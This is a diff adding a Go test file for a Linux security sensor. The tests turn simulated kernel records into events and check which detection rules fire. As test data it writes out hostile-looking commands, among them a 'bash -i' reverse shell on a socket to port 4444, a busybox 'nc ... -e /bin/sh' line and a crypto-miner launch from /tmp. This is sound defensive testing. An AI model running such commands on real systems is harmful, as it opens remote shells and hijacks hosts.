@@ -1,0 +1,576 @@
+//go:build linux
+
+package sensor
+
+import (
+	"fmt"
+	"net/netip"
+	"os"
+	"path/filepath"
+	"slices"
+	"sort"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/valyala/fastjson"
+	"golang.org/x/sys/unix"
+
+	"github.com/vigilsec/vigil/internal/detect"
+	"github.com/vigilsec/vigil/internal/event"
+	"github.com/vigilsec/vigil/internal/ruleset"
+	"github.com/vigilsec/vigil/internal/sensor/container"
+	"github.com/vigilsec/vigil/internal/sensor/kernel"
+	"github.com/vigilsec/vigil/internal/sensor/proctree"
+	"github.com/vigilsec/vigil/internal/source"
+	"github.com/vigilsec/vigil/internal/source/sensorevent"
+)
+
+// fakeAttr attributes cgroup ids from a table.
+type fakeAttr map[uint64]container.Info
+
+func (f fakeAttr) Lookup(cg uint64, pid uint32) container.Info { return f[cg] }
+
+const (
+	cgHost = 1
+	cgWeb  = 77
+	cgNone = 99 // not resolved
+)
+
+var (
+	t0        = time.Date(2026, 11, 24, 10, 0, 0, 0, time.UTC)
+	webStart  = t0.Add(-time.Hour)
+	webMeta   = &container.Metadata{Source: "cri", Name: "web", Image: "registry.example/web:1.4.2", PodName: "web-7f9c", PodNamespace: "production"}
+	testUsers = "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nalice:x:1000:1000::/home/alice:/bin/bash\n"
+)
+
+// newTestMapper returns a mapper over an empty tree, with the host
+// (cgroup 1) and one containerd container (cgroup 77).
+func newTestMapper(t testing.TB) *mapper {
+	dir := t.TempDir()
+	passwd := filepath.Join(dir, "passwd")
+	if err := os.WriteFile(passwd, []byte(testUsers), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	attr := fakeAttr{
+		cgHost: {CgroupID: cgHost, CgroupPath: "/", Runtime: container.RuntimeHost},
+		cgWeb:  {CgroupID: cgWeb, CgroupPath: "/kubepods/pod1/abc", Runtime: container.RuntimeContainerd, ID: "3f5e9a1c7b2d"},
+	}
+	tree := proctree.New(proctree.Config{ProcRoot: dir})
+	m := newMapper(tree, attr, newUsers(passwd), "node-1", dir, 30*time.Second, new(counters))
+	m.hostNS = map[uint64]string{4026531840: "CLONE_NEWNS", 4026531836: "CLONE_NEWPID"}
+	m.startOf = func(i container.Info) time.Time {
+		if i.ID == "3f5e9a1c7b2d" {
+			return webStart
+		}
+		return time.Time{}
+	}
+	m.metaOf = func(i container.Info) *container.Metadata {
+		if i.ID == "3f5e9a1c7b2d" {
+			return webMeta
+		}
+		return nil
+	}
+	return m
+}
+
+// rec returns a record of process pid in cgroup cg with the header filled.
+func rec(kind kernel.Kind, pid uint32, cg uint64, comm string) kernel.Record {
+	return kernel.Record{Kind: kind, Time: t0, TGID: pid, TID: pid, PPID: 1, UID: 33, EUID: 33, GID: 33, AUID: kernel.NoAUID, CgroupID: cg, Comm: comm}
+}
+
+// execRec is an exec record of prog with argv, with pipes on stdio and an
+// executable older than the container.
+func execRec(pid, ppid uint32, cg uint64, filename, exe string, argv ...string) kernel.Record {
+	r := rec(kernel.KindExec, pid, cg, filepath.Base(filename))
+	r.PPID = ppid
+	r.Exec = kernel.Exec{Filename: filename, ExePath: exe, Args: argv, Cwd: "/var/www/html",
+		Inode: 4242, MTime: webStart.Add(-24 * time.Hour), CTime: webStart.Add(-24 * time.Hour)}
+	for i := range r.Exec.Stdio {
+		r.Exec.Stdio[i] = kernel.FD{Type: kernel.FDPipe}
+	}
+	return r
+}
+
+func fork(m *mapper, parent, child uint32, cg uint64) *event.Event {
+	r := rec(kernel.KindFork, parent, cg, "x")
+	r.Fork.ChildTGID = child
+	return m.handle(&r)
+}
+
+// fields returns the event's fields as text, by name.
+func fields(e *event.Event) map[string]string {
+	out := map[string]string{}
+	for _, f := range event.Fields {
+		if f.IsSet(e) {
+			out[f.Name] = f.String(e)
+		}
+	}
+	return out
+}
+
+// check compares the named fields of e; "" wants the field absent.
+func check(t *testing.T, e *event.Event, want map[string]string) {
+	t.Helper()
+	got := fields(e)
+	var keys []string
+	for k := range want {
+		keys = append(keys, k)
+	}
+	sort.Strings(keys)
+	for _, k := range keys {
+		if event.Lookup(k) == nil {
+			t.Fatalf("no field %q in the data model", k)
+		}
+		if got[k] != want[k] {
+			t.Errorf("%s = %q, want %q", k, got[k], want[k])
+		}
+	}
+	if t.Failed() {
+		t.Logf("event: %s", event.AppendJSON(nil, e, false))
+	}
+}
+
+// alerts runs events through a fresh engine with the builtin rules and
+// returns the titles of the alerts, sorted.
+func alerts(t *testing.T, events ...*event.Event) []string {
+	t.Helper()
+	g, errs := ruleset.Load(ruleset.Options{}, detect.Config{})
+	if len(errs) > 0 {
+		t.Fatal(errs)
+	}
+	var titles []string
+	for _, e := range events {
+		g.Process(e, func(a *detect.Alert) { titles = append(titles, a.Rule.Title) })
+	}
+	sort.Strings(titles)
+	return titles
+}
+
+// web sets up a container process tree: nginx (pid 100) forked a worker
+// (101), which runs a shell (102).
+func web(t *testing.T, m *mapper) {
+	t.Helper()
+	r := execRec(100, 1, cgWeb, "/usr/sbin/nginx", "/usr/sbin/nginx", "nginx", "-g", "daemon off;")
+	m.handle(&r)
+	fork(m, 100, 101, cgWeb)
+	fork(m, 101, 102, cgWeb)
+	r = execRec(102, 101, cgWeb, "/bin/sh", "/bin/dash", "sh", "-c", "id")
+	m.handle(&r)
+}
+
+func TestMapExecReverseShell(t *testing.T) {
+	m := newTestMapper(t)
+	web(t, m)
+	fork(m, 102, 103, cgWeb)
+	r := execRec(103, 102, cgWeb, "/bin/bash", "/usr/bin/bash", "bash", "-i")
+	sock := kernel.FD{Type: kernel.FDSocket, Family: unix.AF_INET, SockType: unix.SOCK_STREAM,
+		Local: netip.MustParseAddrPort("10.40.3.17:51234"), Remote: netip.MustParseAddrPort("185.220.101.47:4444")}
+	r.Exec.Stdio = [3]kernel.FD{sock, sock, sock}
+	e := m.handle(&r)
+	check(t, e, map[string]string{
+		"vendor": "linux", "vendor_product": "vigil sensor", "dataset": "Process", "event_name": "execve", "action": "exec",
+		"status": "success", "dest": "node-1", "src_user": "www-data", "time": "2026-11-24T10:00:00Z",
+		"process_id": "103", "process": "bash -i", "process_path": "/bin/bash", "process_name": "bash", "process_exe": "/usr/bin/bash",
+		"process_current_directory": "/var/www/html", "process_user_id": "33", "process_group_id": "33", "process_login_id": "",
+		"parent_process_id": "102", "parent_process": "sh -c id", "parent_process_path": "/bin/sh", "parent_process_name": "sh",
+		"process_ancestors": "/usr/sbin/nginx /usr/sbin/nginx",
+		"process_stdin": "socket", "process_stdout": "socket", "process_exe_drift": "false", "process_exe_fileless": "false",
+		"src_ip": "10.40.3.17", "src_port": "51234", "dest_ip": "185.220.101.47", "dest_port": "4444", "transport": "tcp",
+		"container_id": "3f5e9a1c7b2d", "container_runtime": "containerd", "container_name": "web",
+		"image": "registry.example/web:1.4.2", "namespace": "production", "workload": "pods/web-7f9c",
+	})
+	if got, want := alerts(t, e), []string{"Reverse Shell - Shell With a Network Socket as Standard Input or Output"}; !slices.Equal(got, want) {
+		t.Errorf("alerts %q, want %q", got, want)
+	}
+
+	// The same shell on a Unix socket pair (sshd) is not a reverse shell.
+	r.Exec.Stdio[0] = kernel.FD{Type: kernel.FDSocket, Family: unix.AF_UNIX, SockType: unix.SOCK_STREAM}
+	r.Exec.Stdio[1] = r.Exec.Stdio[0]
+	e = m.handle(&r)
+	check(t, e, map[string]string{"transport": "unix", "dest_ip": "", "process_stdin": "socket"})
+	if got := alerts(t, e); len(got) != 0 {
+		t.Errorf("alerts on a Unix socket: %q", got)
+	}
+}
+
+// The event the sensor writes reads back through the sensor event format
+// as the same event.
+func TestMapRoundTrip(t *testing.T) {
+	m := newTestMapper(t)
+	web(t, m)
+	r := rec(kernel.KindOpen, 102, cgWeb, "sh")
+	r.Ret = 3
+	r.File = kernel.File{Op: kernel.OpOpen, Path: "/bin/ls", Flags: unix.O_WRONLY | unix.O_TRUNC}
+	e := m.handle(&r)
+	line := event.AppendJSON(nil, e, false)
+	got, err := parseSensorEvent(line)
+	if err != nil {
+		t.Fatalf("%v: %s", err, line)
+	}
+	if a, b := fields(e), fields(got); !mapsEqual(a, b) {
+		t.Errorf("round trip:\n%v\n%v", a, b)
+	}
+}
+
+func mapsEqual(a, b map[string]string) bool {
+	if len(a) != len(b) {
+		return false
+	}
+	for k, v := range a {
+		if b[k] != v {
+			return false
+		}
+	}
+	return true
+}
+
+func TestMapRecords(t *testing.T) {
+	type tc struct {
+		name   string
+		rec    func() kernel.Record
+		want   map[string]string
+		alerts []string
+	}
+	sockFD := func(kind kernel.Kind, family, typ uint16, local, remote string) func() kernel.Record {
+		return func() kernel.Record {
+			r := rec(kind, 102, cgWeb, "sh")
+			r.Net = kernel.Net{FD: 3, NewFD: -1, Family: family, SockType: typ}
+			if local != "" {
+				r.Net.Local = netip.MustParseAddrPort(local)
+			}
+			if remote != "" {
+				r.Net.Remote = netip.MustParseAddrPort(remote)
+			}
+			return r
+		}
+	}
+	file := func(kind kernel.Kind, op kernel.FileOp, path string, flags, mode uint32, ret int64) func() kernel.Record {
+		return func() kernel.Record {
+			r := rec(kind, 102, cgWeb, "sh")
+			r.Ret = ret
+			r.File = kernel.File{Op: op, Path: path, Flags: flags, Mode: mode, FD: -100}
+			return r
+		}
+	}
+	sys := func(kind kernel.Kind, nr kernel.Syscall, comm string, set func(*kernel.Record)) func() kernel.Record {
+		return func() kernel.Record {
+			r := rec(kind, 102, cgWeb, comm)
+			r.Syscall = nr
+			r.UID, r.EUID, r.GID = 0, 0, 0
+			set(&r)
+			return r
+		}
+	}
+	cases := []tc{
+		{"create in /usr/local/bin", file(kernel.KindOpen, kernel.OpOpen, "/usr/local/bin/kubectl", unix.O_WRONLY|unix.O_CREAT|unix.O_TRUNC, 0o644, 3),
+			map[string]string{"dataset": "File", "event_name": "create", "action": "create", "file_path": "/usr/local/bin/kubectl", "file_name": "kubectl", "file_mode": "0644", "status": "success", "process_name": "sh"},
+			[]string{"File Written Below a Binary or Library Directory in a Container"}},
+		{"write", file(kernel.KindOpen, kernel.OpOpen, "/etc/ld.so.preload", unix.O_WRONLY|unix.O_APPEND, 0, 3),
+			map[string]string{"event_name": "write", "action": "modify", "file_mode": ""},
+			[]string{"Dynamic Linker Preload File Written"}},
+		{"read of /etc/shadow", file(kernel.KindOpen, kernel.OpOpen, "/etc/shadow", unix.O_RDONLY, 0, 3),
+			map[string]string{"event_name": "read", "action": "get", "file_name": "shadow"},
+			[]string{"Password Hash or Sudo Policy File Read by an Unexpected Program"}},
+		{"failed create", file(kernel.KindOpen, kernel.OpOpen, "/bin/x", unix.O_WRONLY|unix.O_CREAT, 0o600, -int64(syscall.EACCES)),
+			// An attempt is reported as what it tried, with its failure.
+			map[string]string{"event_name": "create", "status": "failure", "msg": "permission denied", "file_mode": "0600"},
+			[]string{"File Written Below a Binary or Library Directory in a Container"}},
+		{"rename", func() kernel.Record {
+			r := file(kernel.KindRename, kernel.OpRename, "/tmp/x", 0, 0, 0)()
+			r.File.NewPath = "/usr/bin/ls"
+			return r
+		}, map[string]string{"dataset": "File", "event_name": "rename", "action": "modify", "file_path": "/usr/bin/ls", "file_name": "ls", "file_source_path": "/tmp/x"},
+			[]string{"File Written Below a Binary or Library Directory in a Container"}},
+		{"unlink", file(kernel.KindUnlink, kernel.OpUnlink, "/var/log/app.log", 0, 0, 0),
+			map[string]string{"event_name": "unlink", "action": "delete", "file_path": "/var/log/app.log"}, nil},
+		{"rmdir", file(kernel.KindUnlink, kernel.OpRmdir, "/tmp/d", 0x200, 0, 0),
+			map[string]string{"event_name": "rmdir", "action": "delete"}, nil},
+		{"chmod +x in /tmp", file(kernel.KindChmod, kernel.OpChmod, "/tmp/.x/miner", 0, 0o755, 0),
+			map[string]string{"event_name": "chmod", "action": "modify", "file_mode": "0755", "file_path": "/tmp/.x/miner"},
+			[]string{"Execute Permission Set on a File in a Temporary Directory"}},
+		{"chmod setuid", file(kernel.KindChmod, kernel.OpChmod, "/usr/local/bin/x", 0, 0o104755, 0),
+			map[string]string{"file_mode": "04755"}, nil},
+		{"connect to a pool", sockFD(kernel.KindConnect, unix.AF_INET, unix.SOCK_STREAM, "10.40.3.17:40112", "141.94.96.144:3333"),
+			map[string]string{"dataset": "Network_Traffic", "event_name": "connect", "action": "connect", "direction": "outbound",
+				"src_ip": "10.40.3.17", "src_port": "40112", "dest_ip": "141.94.96.144", "dest_port": "3333", "transport": "tcp"},
+			[]string{"Container Connected to a Crypto-Mining Pool Port"}},
+		{"connect in progress", func() kernel.Record {
+			r := sockFD(kernel.KindConnect, unix.AF_INET6, unix.SOCK_STREAM, "", "[fd00:ec2::254]:80")()
+			r.Ret = -int64(unix.EINPROGRESS)
+			return r
+		}, map[string]string{"status": "success", "dest_ip": "fd00:ec2::254", "src_ip": ""},
+			[]string{"Cloud Instance Metadata Service Reached From a Container"}},
+		{"connect to a Unix socket", func() kernel.Record {
+			r := sockFD(kernel.KindConnect, unix.AF_UNIX, unix.SOCK_STREAM, "", "")()
+			r.Net.UnixPath = "/run/containerd/containerd.sock"
+			return r
+		}, map[string]string{"transport": "unix", "file_path": "/run/containerd/containerd.sock", "dest_ip": ""}, nil},
+		{"accept", sockFD(kernel.KindAccept, unix.AF_INET, unix.SOCK_STREAM, "10.40.3.17:8080", "10.40.0.9:50000"),
+			map[string]string{"event_name": "accept", "action": "accept", "direction": "inbound", "src_ip": "10.40.0.9", "src_port": "50000", "dest_ip": "10.40.3.17", "dest_port": "8080"}, nil},
+		{"listen", sockFD(kernel.KindListen, unix.AF_INET, unix.SOCK_STREAM, "0.0.0.0:8000", ""),
+			map[string]string{"event_name": "listen", "action": "listen", "src_ip": "0.0.0.0", "src_port": "8000", "direction": "", "dest_ip": ""}, nil},
+		{"bind udp", sockFD(kernel.KindBind, unix.AF_INET, unix.SOCK_DGRAM, "0.0.0.0:53", ""),
+			map[string]string{"event_name": "bind", "transport": "udp", "src_port": "53"}, nil},
+		{"dup onto stdin", func() kernel.Record {
+			r := sockFD(kernel.KindDup, unix.AF_INET, unix.SOCK_STREAM, "10.40.3.17:51234", "185.220.101.47:443")()
+			r.Net.NewFD = 0
+			r.Comm = "python3"
+			return r
+		}, map[string]string{"dataset": "Process", "event_name": "dup", "action": "modify", "syscall_args": "newfd=0", "dest_ip": "185.220.101.47", "dest_port": "443", "process_name": "python3"},
+			[]string{"Socket Duplicated Onto Standard Input or Output by a Shell or Interpreter"}},
+		{"ptrace attach", sys(kernel.KindPtrace, 101, "inject", func(r *kernel.Record) { r.Ptrace = kernel.Ptrace{Request: 16, PID: 1} }),
+			map[string]string{"event_name": "ptrace", "action": "modify", "syscall_args": "request=PTRACE_ATTACH target=1"},
+			[]string{"Process Attached To or Memory Written With ptrace"}},
+		{"memfd_create", sys(kernel.KindMemfd, 319, "python3", func(r *kernel.Record) { r.Memfd = kernel.Memfd{Name: "x", Flags: 1} }),
+			map[string]string{"event_name": "memfd_create", "action": "create", "file_name": "x", "syscall_args": "flags=MFD_CLOEXEC"}, nil},
+		{"setuid", sys(kernel.KindSetID, 105, "su", func(r *kernel.Record) {
+			r.SetID = kernel.SetID{Real: kernel.NoChange, Effective: 0, Saved: kernel.NoChange, FS: kernel.NoChange}
+		}), map[string]string{"event_name": "setuid", "syscall_args": "uid=0"}, nil},
+		{"setresgid", sys(kernel.KindSetID, 119, "x", func(r *kernel.Record) {
+			r.SetID = kernel.SetID{Group: true, Real: 1, Effective: 2, Saved: kernel.NoChange, FS: kernel.NoChange}
+		}), map[string]string{"event_name": "setresgid", "syscall_args": "rgid=1 egid=2"}, nil},
+		{"mount of a host disk", sys(kernel.KindMount, 165, "mount", func(r *kernel.Record) {
+			r.Mount = kernel.Mount{Source: "/dev/nvme0n1p1", Target: "/mnt", FSType: "xfs", Flags: 0xC0ED0000 | 2 | 4}
+		}), map[string]string{"event_name": "mount", "action": "modify", "file_path": "/mnt", "file_source_path": "/dev/nvme0n1p1", "syscall_args": "fstype=xfs flags=MS_NOSUID|MS_NODEV"},
+			[]string{"Host Block Device, Cgroup or Proc Filesystem Mounted in a Container"}},
+		{"runc mounts proc", sys(kernel.KindMount, 165, "runc:[2:INIT]", func(r *kernel.Record) {
+			r.Mount = kernel.Mount{Source: "proc", Target: "/proc/self/fd/6", FSType: "proc"}
+		}), map[string]string{"process_name": "runc:[2:INIT]", "syscall_args": "fstype=proc flags=0"}, nil},
+		{"bind mount", sys(kernel.KindMount, 165, "mount", func(r *kernel.Record) {
+			r.Mount = kernel.Mount{Source: "/a", Target: "/b", Flags: 4096 | 16384 | 1 << 40}
+		}), map[string]string{"syscall_args": "flags=MS_BIND|MS_REC|0x10000000000"}, nil},
+		{"umount", sys(kernel.KindUmount, 166, "umount", func(r *kernel.Record) { r.Mount = kernel.Mount{Target: "/mnt", Flags: 2} }),
+			map[string]string{"event_name": "umount", "file_path": "/mnt", "syscall_args": "flags=MNT_DETACH"}, nil},
+		{"chroot", sys(kernel.KindChroot, 161, "chroot", func(r *kernel.Record) { r.Chroot = kernel.Chroot{Path: "/host"} }),
+			map[string]string{"event_name": "chroot", "file_path": "/host"}, nil},
+		{"unshare", sys(kernel.KindUnshare, 272, "unshare", func(r *kernel.Record) { r.Unshare.Flags = 0x00020000 | 0x20000000 }),
+			map[string]string{"event_name": "unshare", "syscall_args": "flags=CLONE_NEWNS|CLONE_NEWPID"}, nil},
+		{"setns into the host", sys(kernel.KindSetns, 308, "nsenter", func(r *kernel.Record) { r.Setns = kernel.Setns{FD: 3, NSInode: 4026531840} }),
+			map[string]string{"event_name": "setns", "syscall_args": "nstype=CLONE_NEWNS target=host"},
+			[]string{"Container Process Entered the Host's Namespaces"}},
+		{"setns elsewhere", sys(kernel.KindSetns, 308, "ip", func(r *kernel.Record) {
+			r.Setns = kernel.Setns{FD: 3, NSType: 0x40000000, NSInode: 4026532999}
+		}), map[string]string{"syscall_args": "nstype=CLONE_NEWNET ns=4026532999"}, nil},
+		{"finit_module", sys(kernel.KindModule, 313, "insmod", func(r *kernel.Record) { r.Module = kernel.Module{Path: "/tmp/d.ko", FD: 3} }),
+			map[string]string{"event_name": "finit_module", "action": "create", "file_path": "/tmp/d.ko", "file_name": "d.ko"},
+			[]string{"Kernel Module Loaded From a Container"}},
+		{"init_module", sys(kernel.KindModule, 175, "x", func(r *kernel.Record) { r.Module = kernel.Module{FD: -1, Len: 4096} }),
+			map[string]string{"event_name": "init_module", "syscall_args": "len=4096"},
+			[]string{"Kernel Module Loaded From a Container"}},
+		{"bpf kprobe", sys(kernel.KindBPF, 321, "loader", func(r *kernel.Record) { r.BPF = kernel.BPF{Cmd: 5, ProgType: 2, ProgName: "hook"} }),
+			map[string]string{"event_name": "bpf", "syscall_args": "cmd=BPF_PROG_LOAD prog_type=kprobe prog_name=hook"},
+			[]string{"BPF Program Loaded From a Container"}},
+		{"capability check (entry)", sys(kernel.KindSetns, 308, "nsenter", func(r *kernel.Record) {
+			r.Entry = true
+			r.Setns = kernel.Setns{FD: 3, NSType: 0x20000000, NSInode: 4026531836}
+		}), map[string]string{"status": "", "syscall_args": "nstype=CLONE_NEWPID target=host"},
+			[]string{"Container Process Entered the Host's Namespaces"}},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			m := newTestMapper(t)
+			web(t, m)
+			r := c.rec()
+			e := m.handle(&r)
+			want := map[string]string{"process_id": "102", "process": "sh -c id", "process_path": "/bin/sh",
+				"parent_process_id": "101", "parent_process_path": "/usr/sbin/nginx", "container_id": "3f5e9a1c7b2d",
+				"process_exe_drift": "", "process_stdin": ""}
+			for k, v := range c.want {
+				want[k] = v
+			}
+			check(t, e, want)
+			if got := alerts(t, e); !slices.Equal(got, c.alerts) {
+				t.Errorf("alerts %q, want %q", got, c.alerts)
+			}
+		})
+	}
+}
+
+func TestMapExecDriftAndFileless(t *testing.T) {
+	m := newTestMapper(t)
+	web(t, m)
+	fork(m, 102, 110, cgWeb)
+	r := execRec(110, 102, cgWeb, "./kdevtmpfsi", "/tmp/.x/kdevtmpfsi", "./kdevtmpfsi", "-o", "pool:3333")
+	r.Exec.Cwd = "/tmp/.x"
+	r.Exec.MTime = t0.Add(-time.Minute) // written after the container started
+	e := m.handle(&r)
+	check(t, e, map[string]string{"process_path": "/tmp/.x/kdevtmpfsi", "process_name": "kdevtmpfsi", "process_exe_drift": "true", "process_exe_fileless": "false"})
+	want := []string{"Executable Dropped in a Running Container Then Executed", "Program Executed From a Temporary or Shared-Memory Directory"}
+	if got := alerts(t, e); !slices.Equal(got, want) {
+		t.Errorf("alerts %q, want %q", got, want)
+	}
+
+	// A chmod changes ctime: that is drift too.
+	r = execRec(110, 102, cgWeb, "/usr/bin/curl", "/usr/bin/curl", "curl")
+	r.Exec.CTime = t0.Add(-time.Second)
+	check(t, m.handle(&r), map[string]string{"process_exe_drift": "true"})
+
+	// A memfd: fileless, and no file to call drift.
+	fork(m, 102, 111, cgWeb)
+	r = execRec(111, 102, cgWeb, "/proc/self/fd/3", "/memfd: (deleted)", "[kworker/0:2]")
+	r.Exec.Memfd, r.Exec.Deleted, r.Exec.Tmpfs = true, true, true
+	r.Exec.MTime = t0
+	e = m.handle(&r)
+	check(t, e, map[string]string{"process_path": "/proc/self/fd/3", "process_name": "3", "process_exe": "/memfd: (deleted)",
+		"process_exe_fileless": "true", "process_exe_drift": "", "process": "[kworker/0:2]"})
+	if got, want := alerts(t, e), []string{"Fileless Execution From a memfd or Deleted File"}; !slices.Equal(got, want) {
+		t.Errorf("alerts %q, want %q", got, want)
+	}
+
+	// A host process: no drift, runtime host, the login user.
+	r = execRec(200, 1, cgHost, "/home/alice/vigil", "/home/alice/vigil", "./vigil", "version")
+	r.UID, r.EUID, r.GID, r.AUID = 0, 0, 0, 1000
+	r.Exec.MTime = t0
+	e = m.handle(&r)
+	check(t, e, map[string]string{"container_runtime": "host", "container_id": "", "process_exe_drift": "", "src_user": "alice",
+		"process_login_id": "1000", "process_user_id": "0"})
+	if got := alerts(t, e); len(got) != 0 {
+		t.Errorf("alerts %q", got)
+	}
+}
+
+func TestMapForkExitAndLineage(t *testing.T) {
+	m := newTestMapper(t)
+	web(t, m)
+	e := fork(m, 102, 120, cgWeb)
+	check(t, e, map[string]string{"event_name": "fork", "action": "start", "dataset": "Process", "process_id": "120",
+		"process": "sh -c id", "process_path": "/bin/sh", "process_exe": "/bin/dash", "parent_process_id": "102", "parent_process_path": "/bin/sh",
+		"process_ancestors": "/usr/sbin/nginx /usr/sbin/nginx"})
+	r := rec(kernel.KindExit, 120, cgWeb, "sh")
+	r.Exit = kernel.Exit{Signal: 9}
+	e = m.handle(&r)
+	check(t, e, map[string]string{"event_name": "exit", "action": "stop", "syscall_args": "signal=9", "process_id": "120", "process_path": "/bin/sh"})
+	// Its events stay attributed while it is within the grace period.
+	r = rec(kernel.KindExit, 102, cgWeb, "sh")
+	m.handle(&r)
+	r = rec(kernel.KindOpen, 120, cgWeb, "sh")
+	r.File = kernel.File{Op: kernel.OpOpen, Path: "/etc/shadow"}
+	check(t, m.handle(&r), map[string]string{"process_path": "/bin/sh", "parent_process": "sh -c id"})
+	// After the grace period the exited process's program is forgotten.
+	later := rec(kernel.KindFork, 100, cgWeb, "nginx")
+	later.Time = t0.Add(time.Minute)
+	later.Fork.ChildTGID = 130
+	m.handle(&later)
+	for _, pid := range []int32{120, 102} {
+		if tp, ok := m.tree.Get(pid); ok && m.progs[tp.Serial] != nil {
+			t.Errorf("pid %d: program kept after the grace period", pid)
+		}
+	}
+	if n := m.stats.events[evFork].Load(); n != 4 {
+		t.Errorf("%d fork events counted, want 4", n)
+	}
+}
+
+func TestMapUnresolvedAndUnknown(t *testing.T) {
+	m := newTestMapper(t)
+	r := rec(kernel.KindOpen, 555, cgNone, "app")
+	r.File = kernel.File{Op: kernel.OpOpen, Path: "/data/x", Flags: unix.O_WRONLY}
+	e := m.handle(&r)
+	if e.Container != nil {
+		t.Errorf("unresolved record has container fields: %s", event.AppendJSON(nil, e, false))
+	}
+	// A process the tree does not know: what the record says.
+	check(t, e, map[string]string{"process_id": "555", "process_name": "app", "process_path": "", "parent_process_id": "1", "src_user": "www-data"})
+	if m.stats.unresolved.Load() != 1 {
+		t.Errorf("unresolved = %d", m.stats.unresolved.Load())
+	}
+	// Unknown user ids are numbers.
+	r.UID = 4321
+	check(t, m.handle(&r), map[string]string{"src_user": "4321"})
+}
+
+func TestMapSelfExec(t *testing.T) {
+	m := newTestMapper(t)
+	web(t, m)
+	// busybox runs an applet by executing itself: the applet's name is
+	// placed beside the executable when no process can be looked at.
+	r := execRec(102, 101, cgWeb, "/proc/self/exe", "/bin/busybox", "nc", "10.0.0.5", "4444", "-e", "/bin/sh")
+	e := m.handle(&r)
+	check(t, e, map[string]string{"process_path": "/bin/nc", "process_name": "nc", "process_exe": "/bin/busybox"})
+	if got, want := alerts(t, e), []string{"Netcat or Socat Executing a Program for a Connection"}; !slices.Equal(got, want) {
+		t.Errorf("alerts %q, want %q", got, want)
+	}
+	r = execRec(102, 101, cgWeb, "/proc/self/exe", "/usr/sbin/runc", "/usr/sbin/runc", "init")
+	check(t, m.handle(&r), map[string]string{"process_path": "/usr/sbin/runc", "process_name": "runc"})
+
+	// With a live process, the name is looked up in its root and must be
+	// the executable: this test's binary, by its own name.
+	self, err := os.Executable()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var st unix.Stat_t
+	if err := unix.Stat(self, &st); err != nil {
+		t.Fatal(err)
+	}
+	m.procRoot = "/proc"
+	r = execRec(uint32(os.Getpid()), uint32(os.Getppid()), cgHost, "/proc/self/exe", self, filepath.Base(self), "-test.run=x")
+	r.Exec.Inode = st.Ino
+	r.MntNS = 1
+	check(t, m.handle(&r), map[string]string{"process_path": self})
+	r.Exec.Inode = st.Ino + 1 // not that file: the path stays as executed
+	r.MntNS = 2
+	check(t, m.handle(&r), map[string]string{"process_path": "/proc/self/exe"})
+	if !selfExe("/proc/123/exe") || selfExe("/proc/12a/exe") || selfExe("/proc/self/fd/3") {
+		t.Error("selfExe")
+	}
+}
+
+func TestUsers(t *testing.T) {
+	dir := t.TempDir()
+	p := filepath.Join(dir, "passwd")
+	os.WriteFile(p, []byte("# comment\nroot:x:0:0::/:/bin/sh\nbad line\nx:x:notanumber:0::/:\nbob:x:1001:1001::/:/bin/sh\n"), 0o644)
+	u := newUsers(p)
+	now := time.Now()
+	u.now = func() time.Time { return now }
+	if u.name(0) != "root" || u.name(1001) != "bob" || u.name(7) != "7" {
+		t.Errorf("names: %q %q %q", u.name(0), u.name(1001), u.name(7))
+	}
+	// A user added later is found once the file is read again.
+	os.WriteFile(p, []byte("root:x:0:0::/:/bin/sh\ncarol:x:7:7::/:/bin/sh\n"), 0o644)
+	os.Chtimes(p, now.Add(time.Minute), now.Add(time.Minute))
+	if u.name(7) != "7" {
+		t.Error("read again before the recheck interval")
+	}
+	now = now.Add(time.Minute)
+	if u.name(7) != "carol" {
+		t.Errorf("after the change: %q", u.name(7))
+	}
+	// A missing file names nobody.
+	if newUsers(filepath.Join(dir, "none")).name(0) != "0" {
+		t.Error("missing passwd")
+	}
+}
+
+func TestFlags(t *testing.T) {
+	for _, c := range []struct {
+		v    uint64
+		want string
+	}{{0, "0"}, {2 | 4, "MS_NOSUID|MS_NODEV"}, {1 << 40, "0x10000000000"}, {1 | 1<<40, "MS_RDONLY|0x10000000000"}} {
+		if got := string(appendFlags(nil, c.v, mountFlags)); got != c.want {
+			t.Errorf("%#x: %q, want %q", c.v, got, c.want)
+		}
+	}
+	if bpfProgType(29) != "lsm" || bpfProgType(999) != "999" {
+		t.Error("bpfProgType")
+	}
+	if !strings.HasPrefix(nsTypeName(1), "0x") {
+		t.Error("nsTypeName")
+	}
+}
+
+func parseSensorEvent(line []byte) (*event.Event, error) {
+	v, err := fastjson.ParseBytes(line)
+	if err != nil {
+		return nil, err
+	}
+	f := sensorevent.New()
+	if !f.Detect(v) {
+		return nil, fmt.Errorf("not a sensor event")
+	}
+	var got *event.Event
+	err = f.Parse(&source.Record{JSON: v}, func(e *event.Event) { got = e })
+	return got, err
+}
